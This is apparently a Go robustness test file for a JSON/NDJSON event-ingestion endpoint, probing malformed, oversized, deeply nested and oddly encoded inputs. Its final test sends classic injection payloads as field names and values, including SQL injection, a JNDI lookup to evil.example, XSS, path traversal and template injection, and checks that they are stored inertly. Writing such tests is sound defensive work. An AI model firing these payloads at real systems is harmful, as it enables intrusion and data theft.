package main

import (
	"encoding/json"
	"fmt"
	"strings"

	"penstock/internal/edge/edgetest"
)

func jsonRows() []row {
	return []row{
		{"row_40_empty_or_no_object", false, rowNoObject},
		{"row_41_broken_json", false, rowBrokenJSON},
		{"row_42_two_values", false, rowTwoValues},
		{"row_43_depth", false, rowDepth},
		{"row_44_duplicate_members", false, rowDuplicateMembers},
		{"row_45_case_of_names", false, rowCaseOfNames},
		{"row_46_bad_utf8", false, rowBadUTF8},
		{"row_47_byte_order_mark", false, rowByteOrderMark},
		{"row_48_nul", false, rowNUL},
		{"row_49_many_members", false, rowManyMembers},
		{"row_50_long_name", false, rowLongName},
		{"row_51_long_string", false, rowLongString},
		{"row_52_number_range", false, rowNumberRange},
		{"row_53_large_integers", false, rowLargeIntegers},
		{"row_54_types", false, rowTypes},
		{"row_55_ndjson", false, rowNDJSON},
		{"row_56_names_that_mean_something", false, rowNamesThatMeanSomething},
	}
}

const (
	typeJSON   = "Content-Type: application/json\r\n"
	typeNDJSON = "Content-Type: application/x-ndjson\r\n"
)

func (r *raid) post(to, headers, body string) edgetest.Answer {
	r.t.Helper()
	return r.Send(request(to, headers, body))
}

// everywhere sends an event alone, as an item behind a good one, and as a line behind a good one.
func (r *raid) everywhere(what, event string) {
	r.t.Helper()
	alone := r.post(toClicks, typeJSON, event)
	item := r.post(toClicks, typeJSON, `[{"a":1},`+event+`]`)
	line := r.post(toClicks, typeNDJSON, `{"a":1}`+"\n"+event+"\n")
	for _, a := range []edgetest.Answer{alone, item, line} {
		r.checkAnswer(what, a)
	}
	r.say("%s: %s; item %s; line %s", what, answerLine(alone), answerLine(item), answerLine(line))
}

func rowNoObject(r *raid) {
	for _, body := range []string{"", " \n\t", "null", "[]", `"x"`, "5", "true", "[null]", `["x"]`, "[[{}]]"} {
		r.note(fmt.Sprintf("%q", body), r.post(toNothing, typeJSON, body))
	}
	r.note("{}", r.post(toClicks, typeJSON, "{}"))
	r.note("lines without an object", r.post(toNothing, typeNDJSON, "null\n5\n\"x\"\n[]\n"))
	r.note("blank lines", r.post(toNothing, typeNDJSON, "\n\r\n \n"))
}

func rowBrokenJSON(r *raid) {
	for _, body := range []string{
		`{"a":1`, `{"a":`, `{"a`, `[{"a":1}`, `{"a":1,}`, `[{"a":1},]`, `{"a":1 /* x */}`, "{\"a\":1} // x", `{'a':1}`, `{"a":'x'}`, `{"a":NaN}`, `{"a":Infinity}`, `{"a":-Infinity}`,
		`{a:1}`, `{"a":01}`, `{"a":+1}`, `{"a":1.}`, `{"a":.5}`, `{"a":0x1}`, `{"a":"\x"}`, "{\"a\":\"\t\"}", `{"a":tru}`, `{"a" 1}`, `{,}`, `{"a":1e}`, "]", "}", `{"a":1]`,
	} {
		a := r.post(toNothing, typeJSON, body)
		r.note(body, a)
		if !strings.Contains(a.Detail, "at byte ") {
			r.t.Errorf("%s: no place: %s", body, a.Detail)
		}
	}
	r.everywhere("a comma too many", `{"a":1,}`)
}

func rowTwoValues(r *raid) {
	for _, body := range []string{`{"a":1}{"a":2}`, `{"a":1} {"a":2}`, "{\"a\":1}\n{\"a\":2}", `{"a":1}x`, `[{"a":1}]{}`, `[{"a":1}],`, "{\"a\":1}\x00"} {
		r.note(fmt.Sprintf("%q", body), r.post(toNothing, typeJSON, body))
	}
	r.note("two on a line", r.post(toClicks, typeNDJSON, "{\"a\":1}{\"a\":2}\n{\"a\":3}"))
	r.note("lines without a content type", r.post(toClicks, "", "{\"a\":1}\n{\"a\":2}\n"))
}

func rowDepth(r *raid) {
	deep := func(n int) string { return `{"a":` + strings.Repeat("[", n) + strings.Repeat("]", n) + "}" }
	r.everywhere("32", deep(31))
	r.everywhere("33", deep(32))
	r.note("100,000 of [", r.post(toNothing, typeJSON, strings.Repeat("[", 100_000)))
	r.note("100,000 of { and names", r.post(toNothing, typeJSON, strings.Repeat(`{"a":`, 100_000)))
	r.note("100,000 of [ as a line", r.post(toNothing, typeNDJSON, strings.Repeat("[", 100_000)))
	r.note("8 MiB of [", r.post(toNothing, typeJSON, strings.Repeat("[", 8<<20)))
}

func rowDuplicateMembers(r *raid) {
	for _, event := range []string{`{"a":1,"a":2}`, `{"id":"1","id":"2"}`, `{"id":"1","\u0069d":"2"}`, `{"x":{"a":1,"b":2,"a":3}}`, `{"":1,"":2}`, `{"time":1,"t\u0069me":2}`} {
		r.everywhere(event, event)
	}
}

// rowCaseOfNames sends members that are not id, key and time.
func rowCaseOfNames(r *raid) {
	const event = `{"ID":"upper","Id":"title","KEY":"k","Time":"yesterday","case":"here"}`
	a := r.post(toClicks, typeJSON, event)
	r.note(event, a)
	r.await(a)
	if got := r.p.sql("select id = 'upper' or id = 'title', key from clicks where data->>'case' = 'here'", ""); got != "[[false,null]]" {
		r.t.Errorf("stored %s", got)
	}
}

func rowBadUTF8(r *raid) {
	for _, text := range []string{"\xff", "\xc0\xaf", "\xe2\x82", "\xed\xa0\x80", "\xf4\x90\x80\x80", `\ud800`, `\udc00`, `\ud800x`, `\ud800\ud800`} {
		r.everywhere(fmt.Sprintf("%q", text), `{"a":"`+text+`"}`)
	}
	r.everywhere("in a name", "{\"\xff\":1}")
	r.everywhere("a whole pair", `{"a":"\ud83d\ude00"}`)
}

func rowByteOrderMark(r *raid) {
	const mark = "\xef\xbb\xbf"
	r.note("an object", r.post(toNothing, typeJSON, mark+`{"a":1}`))
	r.note("an array", r.post(toNothing, typeJSON, mark+`[{"a":1}]`))
	r.note("a line", r.post(toNothing, typeNDJSON, mark+`{"a":1}`))
	r.note("UTF-16", r.post(toNothing, typeJSON, "\xff\xfe{\x00}\x00"))
}

func rowNUL(r *raid) {
	r.everywhere("in a value", `{"a":"x\u0000y"}`)
	r.everywhere("in a name", `{"x\u0000y":1}`)
	r.everywhere("as it is", "{\"a\":\"x\x00y\"}")
}

func rowManyMembers(r *raid) {
	members := func(n int, name func(int) string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, `,"%s":1`, name(i))
		}
		return "{" + b.String()[1:] + "}"
	}
	short := func(i int) string { return fmt.Sprintf("m%d", i) }
	r.everywhere("10,000", members(10_000, short))
	r.everywhere("4,096 beside their object", members(4_096, short))
	r.everywhere("4,095 beside their object", members(4_095, short))
	// Two words that weigh the same under h = 31h + c, in every order: what collides where hashes have no key.
	r.note("4,000 names that collide", r.post(toClicks, typeJSON, members(4_000, func(i int) string {
		name := ""
		for bit := range 12 {
			name += [2]string{"Aa", "BB"}[i>>bit&1]
		}
		return name
	})))
}

func rowLongName(r *raid) {
	for _, n := range []int{128, 129, 100 << 10} {
		r.everywhere(fmt.Sprintf("%d bytes", n), `{"`+strings.Repeat("n", n)+`":1}`)
	}
}

func rowLongString(r *raid) {
	for _, n := range []int{64 << 10, 64<<10 + 1} {
		r.everywhere(fmt.Sprintf("%d bytes", n), `{"a":"`+strings.Repeat("s", n)+`"}`)
	}
}

func rowNumberRange(r *raid) {
	for _, number := range []string{"1e400", "-1e400", "1e-400", "1e999999999999"} {
		r.everywhere(number, `{"a":`+number+`}`)
	}
	r.everywhere("100 KiB of digits", `{"a":`+strings.Repeat("9", 100<<10)+`}`)
	r.everywhere("100 KiB of decimals", `{"a":0.`+strings.Repeat("3", 100<<10)+`}`)
	a := r.post("POST /v1/streams/typed/events", typeJSON, `{"id":"minus-zero","d":-0,"v":-0}`)
	r.note("-0", a)
	r.await(a)
	if got := r.p.sql("select 1/d < 0 from typed where id = 'minus-zero'", ""); got != "[[true]]" {
		r.t.Error("the column has lost the sign")
	}
	r.keeps("-0", `{"id":"minus-zero","d":-0,"v":-0}`)
}

// keeps expects the data of the event with the id to be what was sent.
func (r *raid) keeps(what, event string) {
	r.t.Helper()
	var sent struct{ ID string }
	if err := json.Unmarshal([]byte(event), &sent); err != nil {
		r.t.Fatal(err)
	}
	rows := r.p.sql("select data::text from typed where id = '"+sent.ID+"'", "")
	var got [][]string
	if err := json.Unmarshal([]byte(rows), &got); err != nil || len(got) != 1 || got[0][0] != event {
		r.t.Errorf("%s: sent %s, stored %s (%v)", what, event, rows, err)
	}
}

func rowLargeIntegers(r *raid) {
	for i, number := range []string{"9007199254740993", "9223372036854775807", "-9223372036854775807"} {
		event := fmt.Sprintf(`{"id":"large-%d","n":%s,"v":{"deep":[%s]}}`, i, number, number)
		a := r.post("POST /v1/streams/typed/events", typeJSON, event)
		r.note(number, a)
		r.await(a)
		r.keeps(number, event)
		if got := r.p.sql(fmt.Sprintf("select n::text, data->'v'->'deep'->>0 from typed where id = 'large-%d'", i), ""); got != fmt.Sprintf(`[["%s","%s"]]`, number, number) {
			r.t.Errorf("%s: stored %s", number, got)
		}
	}
	for _, number := range []string{"9223372036854775808", "18446744073709551616", "-9223372036854775808", "-9223372036854775809"} {
		r.everywhere(number, `{"a":`+number+`}`)
	}
}

func rowTypes(r *raid) {
	for _, event := range []string{
		`{"n":1.0}`, `{"n":1.5}`, `{"n":"5"}`, `{"n":true}`, `{"n":[5]}`, `{"n":{}}`, `{"d":"5"}`, `{"d":"NaN"}`, `{"t":true}`, `{"t":"yesterday"}`,
		`{"m":1.234}`, `{"m":99999999999}`, `{"m":"1.2x"}`, `{"s":5}`, `{"s":{}}`, `{"b":"true"}`, `{"b":1}`,
	} {
		r.note(event, r.post("POST /v1/streams/typed/events", typeJSON, event))
	}
	r.note("one of two", r.post("POST /v1/streams/typed/events", typeJSON, `[{"n":1},{"n":"1"}]`))
	r.note("null and missing", r.post("POST /v1/streams/typed/events", typeJSON, `{"n":null}`))
}

func rowNDJSON(r *raid) {
	long := `{"a":"` + strings.Repeat("x", 300<<10) + `"}`
	r.note("CR LF, blank lines, a line of 300 KiB, no last line end", r.post(toClicks, typeNDJSON, "{\"a\":1}\r\n\r\n\n  \n{\"a\":2}\n"+long+"\n{\"a\":3}"))
	r.note("a line of 300 KiB that is no JSON", r.post(toClicks, typeNDJSON, "{\"a\":1}\n"+strings.Repeat("x", 300<<10)+"\n{\"a\":2}"))
	r.note("CR alone", r.post(toNothing, typeNDJSON, "{\"a\":1}\r{\"a\":2}"))
	r.note("spaces and a BOM in the middle", r.post(toClicks, typeNDJSON, "  {\"a\":1}  \n\xef\xbb\xbf{\"a\":2}\n"))
}

func rowNamesThatMeanSomething(r *raid) {
	for i, text := range []string{
		"__proto__", "constructor", "$where", "; DROP TABLE typed;--", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "%s%n%x", "' OR '1'='1", "../../etc/passwd", "=cmd()",
	} {
		name, _ := json.Marshal(text)
		event := fmt.Sprintf(`{"id":"meaning-%d",%s:%s,"key":%s}`, i, name, name, name)
		a := r.post("POST /v1/streams/typed/events", typeJSON, event)
		r.note(text, a)
		r.await(a)
		r.keeps(text, event)
		if got, want := r.p.sql(fmt.Sprintf("select key from typed where id = 'meaning-%d'", i), ""), "[["+string(name)+"]]"; got != want {
			r.t.Errorf("the key is %s, not %s", got, want)
		}
	}
}
